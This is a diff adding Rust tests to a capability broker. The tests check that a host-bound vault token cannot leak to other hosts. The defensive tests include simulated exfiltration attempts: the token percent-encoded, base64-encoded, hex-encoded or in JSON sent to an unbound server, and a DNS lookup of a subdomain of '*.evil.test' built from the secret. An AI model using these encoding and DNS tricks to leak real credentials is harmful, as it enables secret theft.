@@ -11,8 +11,10 @@ use std::sync::Arc;
 use std::thread;
 use std::time::{Duration, Instant};
 
+use base64::Engine;
+use morph_capabilities::HostPattern;
 use morph_capabilities::audit::Decision;
-use morph_capabilities::providers::Resolver;
+use morph_capabilities::providers::{Resolver, SqliteStore};
 use morph_capabilities::{CallContext, Permission, Providers, ResourceLimits};
 use serde_json::{Value, json};
 
@@ -121,6 +123,14 @@ fn serve(mut stream: TcpStream) -> std::io::Result<()> {
             respond(&mut stream, 200, &[], b"slow")
         }
         "/binary" => respond(&mut stream, 200, &[], &[0xff, 0xfe, 0x00, 0x80]),
+        "/auth" => {
+            // 200 only when the request carried `Bearer <expect>`.
+            let expected = format!("Bearer {}", query.get("expect").map_or("", String::as_str));
+            let carried = headers
+                .iter()
+                .any(|(k, v)| k == "authorization" && *v == expected);
+            respond(&mut stream, if carried { 200 } else { 401 }, &[], b"")
+        }
         _ => respond(&mut stream, 404, &[], b"not found"),
     }
 }
@@ -675,4 +685,153 @@ async fn unreachable_allowed_host_fails_without_leaking_the_query() {
         .clone()
         .unwrap();
     assert!(!reason.contains("s3cret"), "{reason}");
+}
+
+// ---------------------------------------------------------------- vault values bound to hosts
+
+const BOUND_VALUE: &str = "tok-7Hq2vX9pLm4Rz8Kw";
+
+/// A fixture whose vault holds `token` = [`BOUND_VALUE`] bound to `bound_to`.
+async fn fixture_with_bound_token(bound_to: &str) -> Fixture {
+    let fx = fixture_with(|_| {});
+    let store = SqliteStore::open_in(fx.dir.path()).unwrap();
+    store
+        .vault_set_bound(
+            "http-test",
+            "token",
+            BOUND_VALUE,
+            Some(vec![HostPattern::parse(bound_to).unwrap()]),
+        )
+        .await
+        .unwrap();
+    fx
+}
+
+/// THREATS.md, "Bypassing the broker's checks": secrets never reach another
+/// host. A value bound to one host is refused for every other allowed host,
+/// plain or encoded, in the URL, a header or the body; the refusal is
+/// audited and never shows the value.
+#[tokio::test]
+async fn a_bound_secret_reaches_its_host_and_no_other_in_any_encoding() {
+    let (bound, other) = (Server::start(), Server::start());
+    let fx = fixture_with_bound_token(&bound.entry()).await;
+    let ctx = ctx(&[READ, WRITE], &[&bound.entry(), &other.entry()]);
+    let fetch = |url: String, headers: Value, body: Option<String>| {
+        let mut request = json!({"method": "POST", "url": url, "headers": headers});
+        if let Some(body) = body {
+            request["body"] = json!(body);
+        }
+        fx.broker.invoke(&ctx, "http.fetch", request)
+    };
+    let bearer = json!({"Authorization": format!("Bearer {BOUND_VALUE}")});
+    let r = expect_ok(&fx, fetch(bound.url("/echo"), bearer.clone(), None).await);
+    assert_eq!(r["status"], 200);
+
+    let percent: String = BOUND_VALUE.bytes().map(|b| format!("%{b:02X}")).collect();
+    let basic = base64::engine::general_purpose::STANDARD.encode(format!("me:{BOUND_VALUE}"));
+    let attempts = [
+        (other.url("/echo"), bearer, None),
+        (
+            other.url(&format!("/echo?k={BOUND_VALUE}")),
+            json!({}),
+            None,
+        ),
+        (other.url(&format!("/echo?k={percent}")), json!({}), None),
+        (
+            other.url("/echo"),
+            json!({"Authorization": format!("Basic {basic}")}),
+            None,
+        ),
+        (
+            other.url("/echo"),
+            json!({}),
+            Some(hex::encode(BOUND_VALUE)),
+        ),
+        (
+            other.url("/echo"),
+            json!({}),
+            Some(format!("{{\"t\":\"{BOUND_VALUE}\"}}")),
+        ),
+    ];
+    for (url, headers, body) in attempts {
+        let message = expect_err(&fx, fetch(url, headers, body).await, "permission_denied");
+        assert!(message.contains("`token` is bound to"), "{message}");
+        assert!(!message.contains(BOUND_VALUE), "{message}");
+        let last = fx.audit.records().last().unwrap().entry.clone();
+        assert!(!format!("{last:?}").contains(BOUND_VALUE));
+    }
+    // A host name made of the value is refused before any DNS query, and
+    // neither the message nor the audit names it.
+    let fx_dns = fixture_resolving(&[]);
+    let store = SqliteStore::open_in(fx_dns.dir.path()).unwrap();
+    store
+        .vault_set_bound(
+            "http-test",
+            "token",
+            BOUND_VALUE,
+            Some(vec![HostPattern::parse(&bound.entry()).unwrap()]),
+        )
+        .await
+        .unwrap();
+    let wildcard = ctx_with("http-test", &[READ], &["*.evil.test"], limits(10, 5_000));
+    let url = format!("http://{}.evil.test/", BOUND_VALUE.to_ascii_lowercase());
+    let message = expect_err(
+        &fx_dns,
+        get(&fx_dns, &wildcard, &url).await,
+        "permission_denied",
+    );
+    assert!(
+        !message
+            .to_ascii_lowercase()
+            .contains(&BOUND_VALUE.to_ascii_lowercase())
+    );
+}
+
+/// The broker fills `{{vault:KEY}}` in for the bound host: the guest holds no
+/// `vault:read`, the server receives the value, the guest's response shows
+/// the placeholder, and the value goes nowhere else.
+#[tokio::test]
+async fn a_header_placeholder_is_filled_for_the_bound_host_only_and_never_shown() {
+    let (bound, other) = (Server::start(), Server::start());
+    let fx = fixture_with_bound_token(&bound.entry()).await;
+    let ctx = ctx(&[READ], &[&bound.entry(), &other.entry()]);
+    let with = |url: String, headers: Value| {
+        fx.broker
+            .invoke(&ctx, "http.fetch", json!({"url": url, "headers": headers}))
+    };
+    let placeholder = json!({"Authorization": "Bearer {{vault:token}}"});
+    let r = expect_ok(
+        &fx,
+        with(
+            bound.url(&format!("/auth?expect={BOUND_VALUE}")),
+            placeholder.clone(),
+        )
+        .await,
+    );
+    assert_eq!(r["status"], 200, "the server received the value");
+    let r = expect_ok(&fx, with(bound.url("/echo"), placeholder.clone()).await);
+    assert_eq!(
+        echoed(&r)["headers"]["authorization"],
+        "Bearer {{vault:token}}"
+    );
+    assert!(!r.to_string().contains(BOUND_VALUE), "echoed back unseen");
+
+    let message = expect_err(
+        &fx,
+        with(other.url("/echo"), placeholder).await,
+        "permission_denied",
+    );
+    assert!(message.contains("`token` is bound to"), "{message}");
+    let unbound = json!({"X-Key": "{{vault:missing}}"});
+    let message = expect_err(
+        &fx,
+        with(bound.url("/echo"), unbound).await,
+        "permission_denied",
+    );
+    assert!(message.contains("not set or not bound"), "{message}");
+
+    // A redirect to another host drops the header it would have filled.
+    let hop = redirect(&bound, &other.url("/echo"), 307);
+    let r = expect_ok(&fx, with(hop, json!({"X-Key": "{{vault:token}}"})).await);
+    assert!(echoed(&r)["headers"].get("x-key").is_none(), "{r}");
 }
